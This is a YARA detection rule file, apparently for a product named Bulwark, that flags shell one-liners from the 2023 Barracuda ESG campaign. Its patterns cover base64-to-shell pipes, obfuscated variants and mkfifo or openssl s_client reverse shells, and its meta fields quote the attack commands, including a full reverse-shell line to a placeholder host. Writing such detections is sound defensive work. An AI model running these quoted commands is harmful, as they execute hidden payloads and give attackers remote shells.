/*
 * Shell one-liners of the 2023 Barracuda ESG campaign (UNC4841, CVE-2023-2868): commands
 * decoded from base64 and piped into a shell, named-pipe reverse shells, and openssl s_client
 * used as an encrypted shell channel. Written for Bulwark from the public descriptions in:
 *   Mandiant, "Barracuda ESG Zero-Day Vulnerability (CVE-2023-2868) Exploited Globally by
 *     Aggressive and Persistent Suspected China-Nexus Espionage Actor", 2023-06-15;
 *   Mandiant, "Diving Deep into UNC4841 Operations Following Barracuda ESG Zero-Day
 *     Remediation (CVE-2023-2868)", 2023-08-29;
 *   CISA AR23-209A (MAR-10454006-r1.v2, SUBMARINE), 2023-07-28;
 *   CISA AR23-250A (SEASPY, WHIRLPOOL), 2023-09-07.
 * Tag `suspicious`: a weak signal, raised as the symbol YARA_SUSPICIOUS. Untagged: a threat
 * of kind "malware".
 */

rule Bulwark_Shell_Base64_Blob_To_Shell
{
  meta:
    description = "A literal base64 (or hex, or \\x-escaped) payload decoded and piped straight into a shell: echo <b64> | base64 -d | sh"
    source = "Mandiant CVE-2023-2868 report (2023-06-15): exploit payload 'echo $abcdefg | base64 -d | sh'; CISA AR23-209A (2023-07-28): SUBMARINE trigger 'echo -n <b64> | base64 -d | sh'"
    severity = "threat"
  strings:
    $b64 = /(echo|printf)(\s+-[neE]{1,3})*(\s+['"]%s['"])?\s+['"]?[A-Za-z0-9+\/]{16,}={0,2}['"]?\s*\|\s*(\/usr)?(\/bin\/)?base64\s+(-d|--decode|-di|-id|-D)(\s+-i)?\s*\|\s*(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
    $hex = /(echo|printf)(\s+-[neE]{1,3})*(\s+['"]%s['"])?\s+['"]?[0-9a-fA-F]{16,}['"]?\s*\|\s*xxd\s+(-r\s+-p|-p\s+-r|-rp|-pr|-r\s+-ps|-ps\s+-r)\s*\|\s*(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
    $esc = /printf\s+['"](\\x[0-9a-fA-F]{2}){8,}['"]\s*\|\s*(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
  condition:
    any of them
}

rule Bulwark_Shell_Obfuscated_Base64_Shell
{
  meta:
    description = "The word base64 or sh assembled from shell variables, as in the CVE-2023-2868 file-name payload (ee=ba;G=s; ... ${ee}se64 -d ... ${G}h)"
    source = "Mandiant CVE-2023-2868 report (2023-06-15): TAR file-name payload"
    severity = "threat"
  strings:
    $split_b64 = /\$\{?[A-Za-z_][A-Za-z0-9_]{0,15}\}?se64[ \t_]+(-d|--decode)/
    $split_sh = /\|?[ \t_]*\$\{[A-Za-z_][A-Za-z0-9_]{0,15}\}h\b/
    $assign = /[A-Za-z_][A-Za-z0-9_]{0,15}=ba;[ \t]*[A-Za-z_][A-Za-z0-9_]{0,15}=s;/
  condition:
    $split_b64 and ($split_sh or $assign)
}

rule Bulwark_Shell_Base64_Decode_Pipe : suspicious
{
  meta:
    description = "base64 output piped into a shell, without a literal payload in sight (weak: also seen in administration notes)"
    source = "Mandiant CVE-2023-2868 report (2023-06-15); CISA AR23-209A (2023-07-28)"
    severity = "suspicious"
  strings:
    $pipe = /base64\s+(-d|--decode|-di|-id|-D)(\s+-i)?\s*\|\s*(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
  condition:
    $pipe
}

rule Bulwark_Shell_Mkfifo_Reverse_Shell
{
  meta:
    description = "Named-pipe reverse shell: mkfifo, an interactive shell and a network channel (nc, telnet or openssl s_client) within a few hundred bytes"
    source = "Mandiant CVE-2023-2868 report (2023-06-15): reverse shell of the shape setsid sh -c 'mkfifo /tmp/p; sh -i </tmp/p 2>&1 | openssl s_client -quiet -connect <ip>:<port> >/tmp/p'"
    severity = "threat"
  strings:
    $fifo = /(mkfifo|mknod)\s+(-m\s+\d+\s+)?\/?[A-Za-z0-9_.\/-]{1,64}/
    $shell = /sh[ \t]+-i\b/
    $nc = /(nc|ncat|netcat|telnet)[ \t]+(-[A-Za-z]+[ \t]+)*[A-Za-z0-9_.-]{1,253}[ \t:]+\d{1,5}\b/
    $ossl = /openssl[ \t]+s_client\b/
  condition:
    for any i in (1..#fifo) : (
      $shell in (@fifo[i] .. @fifo[i] + 400) and
      ($nc in (@fifo[i] .. @fifo[i] + 400) or $ossl in (@fifo[i] .. @fifo[i] + 400))
    )
}

rule Bulwark_Shell_OpenSSL_SClient_Shell
{
  meta:
    description = "openssl s_client used as the transport of a shell: s_client -connect with a shell's input or output tied to it"
    source = "Mandiant CVE-2023-2868 report (2023-06-15), reverse shell over openssl s_client; CISA AR23-250A (2023-09-07), WHIRLPOOL TLS reverse shell"
    severity = "threat"
  strings:
    $sclient = /openssl[ \t]+s_client\b[^\n|;&<>]{0,64}-connect\b/
    $to_shell = /s_client\b[^\n|;]{0,96}\|[ \t]*(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
    $from_shell = /sh[ \t]+-i\b[^\n|;]{0,48}\|[ \t]*openssl[ \t]+s_client\b/
  condition:
    $sclient and ($to_shell or $from_shell)
}
